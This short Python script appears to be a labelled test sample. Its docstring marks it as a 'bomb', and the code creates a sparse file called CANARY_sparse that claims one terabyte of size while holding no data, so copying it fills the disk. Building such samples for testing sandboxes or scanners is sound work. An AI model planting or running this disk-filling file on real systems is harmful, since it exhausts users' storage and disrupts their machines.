"""
kind: bomb
tries: A file that claims one terabyte and holds nothing: whoever copies it fills the disk.
plain: no
"""

import os

os.truncate(os.open("CANARY_sparse", os.O_CREAT | os.O_RDWR), 2**40)
